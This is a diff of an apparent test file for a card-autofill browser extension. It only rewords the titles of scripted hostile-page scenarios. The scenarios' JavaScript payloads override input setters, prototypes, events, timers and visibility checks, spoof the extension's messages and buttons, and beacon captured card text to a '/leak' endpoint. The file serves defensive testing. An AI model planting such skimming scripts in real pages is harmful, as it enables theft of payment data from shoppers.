@@ -1,6 +1,6 @@
 import { cardForm, type Attack } from './attack.ts'
 
-/** Kept in the page, and sent. That may call what it has put over: one at a time. */
+/** Records caught text in the page and sends it. Recording may call overridden functions, so nested calls are ignored. */
 const leak =
   'let isLeaking = false; globalThis.caught = ""; const leak = (what) => { if (isLeaking) return; isLeaking = true; try { const text = typeof what === "function" ? String(what()) : String(what); caught += text + "\\n"; navigator.sendBeacon("/leak", text) } catch {} finally { isLeaking = false } };'
 
@@ -15,44 +15,44 @@ const scripted = (title: string, script: string, more: Partial<Attack> = {}): At
 /** Pages that override browser functions, or that imitate messages of the extension. */
 export const tamperingAttacks: readonly Attack[] = [
   scripted(
-    'the page has put its own setter over the value of fields',
+    'the page overrides the value setter of fields',
     `const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); Object.defineProperty(HTMLInputElement.prototype, 'value', { ...own, set(v) { leak(v); own.set.call(this, v) } })`,
   ),
   scripted(
-    'the page has put its own methods over those of lists and texts',
+    'the page overrides methods of arrays and strings',
     `for (const [of, names] of [[Array.prototype, ['map', 'filter', 'join', 'push', 'flatMap', 'some']], [String.prototype, ['slice', 'replaceAll', 'split', 'toLowerCase']]]) for (const name of names) { const own = of[name]; of[name] = function (...all) { const out = own.apply(this, all); leak(() => this + ' ' + all + ' ' + out); return out } }`,
   ),
   scripted(
-    'the page has put its own events in the place of the browser’s',
+    'the page overrides the browser’s event classes',
     `for (const name of ['InputEvent', 'KeyboardEvent', 'Event']) { const Own = window[name]; window[name] = class extends Own { constructor(type, init) { leak(JSON.stringify(init)); super(type, init) } } }`,
   ),
   scripted(
-    'the page has put its own promises and timers in the place of the browser’s',
+    'the page overrides promises and timers',
     `const own = window.setTimeout; window.setTimeout = (f, ms, ...all) => { leak(() => String(f) + all); return own(f, ms, ...all) }; const then = Promise.prototype.then; Promise.prototype.then = function (...all) { leak(() => String(all)); return then.apply(this, all) }`,
     { besides: 'no digit goes through a timer or a promise that is the page’s' },
   ),
   scripted(
-    'the page hears of every name that is written into any object',
+    'the page adds setters to the prototype of every object',
     `for (const name of ['number', 'month', 'year', 'securityCode', 'holder', 'card', 'values', 'text', 'data', 'ticket', 'kind', 'element']) Object.defineProperty(Object.prototype, name, { set(v) { leak(() => name + ' ' + JSON.stringify(v)) }, get() { return undefined }, configurable: true })`,
     { besides: 'what comes as JSON is defined and never set' },
   ),
   scripted(
-    'the page has made a helper of our name',
+    'the page defines an object with the name of our frame agent',
     `window.moonFrame = { read: () => ({ forms: [] }), knock: () => [], fill: (...all) => leak(JSON.stringify(all)), fillAddress: (...all) => leak(JSON.stringify(all)) }`,
     { besides: 'a page that is asked in our place says nothing of a form' },
   ),
   scripted(
-    'the page answers whatever is posted as the worker would',
+    'the page records posted messages and imitates the worker’s',
     `addEventListener('message', (e) => leak(JSON.stringify(e.data))); setInterval(() => postMessage({ call: 'fill', moonFrame: 'fill', type: 'fill', moonKnock: 'x' }, '*'), 10)`,
     { besides: 'nobody listens to what is posted' },
   ),
   scripted(
-    'the page says that everything can be seen',
+    'the page overrides the visibility checks to report everything as visible',
     `Element.prototype.checkVisibility = () => true; document.elementFromPoint = () => document.getElementById('n'); Element.prototype.getBoundingClientRect = () => new DOMRect(10, 10, 300, 40); window.getComputedStyle = () => ({ opacity: '1', filter: 'none', maskImage: 'none', pointerEvents: 'auto' }); addEventListener('DOMContentLoaded', () => { document.querySelector('form').style.opacity = '0' })`,
     { allows: '', isFilled: false },
   ),
   {
-    title: 'the page gives a decoy for a shadow root whose fields are hidden',
+    title: 'the page passes a hidden shadow root off as that of a visible decoy',
     pages: () => ({
       shop: `<div id="host"></div><div id="decoy"></div><script>
         const real = document.getElementById('host').attachShadow({ mode: 'open' }); real.innerHTML = ${JSON.stringify(cardForm({ form: 'style="opacity:0"' }))}
@@ -61,13 +61,13 @@ export const tamperingAttacks: readonly Attack[] = [
     }),
   },
   {
-    title: 'a shadow root hides the form that is put into its slot',
+    title: 'a shadow root makes its slotted form transparent',
     pages: () => ({
       shop: `<div id="host">${cardForm()}</div><script>document.getElementById('host').attachShadow({ mode: 'open' }).innerHTML = '<div style="opacity:0"><slot></slot></div>'</script>`,
     }),
   },
   {
-    title: 'a shadow root shows nothing of the form inside its host',
+    title: 'a shadow root has no slot for the form inside its host',
     pages: () => ({
       shop: `<div id="host">${cardForm()}</div><script>document.getElementById('host').attachShadow({ mode: 'open' }).innerHTML = '<p>Free gift</p>'</script>`,
     }),
@@ -88,7 +88,7 @@ export const tamperingAttacks: readonly Attack[] = [
     },
   },
   {
-    title: 'an older confirmation is used behind a newer one',
+    title: 'an older confirmation is used after a newer reading',
     pages: () => ({ shop: cardForm() }),
     attempt: async ({ tab, again }) => {
       await tab.read('http://pay.localhost')
@@ -96,7 +96,7 @@ export const tamperingAttacks: readonly Attack[] = [
     },
   },
   {
-    title: 'a confirmation names a form that nobody confirmed',
+    title: 'a confirmation names an unknown ticket',
     pages: () => ({ shop: cardForm() }),
     attempt: async ({ checkout, again }) => {
       if (checkout.plan.outcome === 'ready')
@@ -105,7 +105,7 @@ export const tamperingAttacks: readonly Attack[] = [
     },
   },
   {
-    title: 'the page has a button that looks like ours and clicks it',
+    title: 'the page imitates our button and clicks it',
     besides: 'ours does nothing but open our own window',
     pages: () => ({
       shop: `${cardForm()}<button id="moon" style="position:fixed;right:0;top:0">Pay with Moon</button><script>setInterval(() => document.getElementById('moon').click(), 5)</script>`,
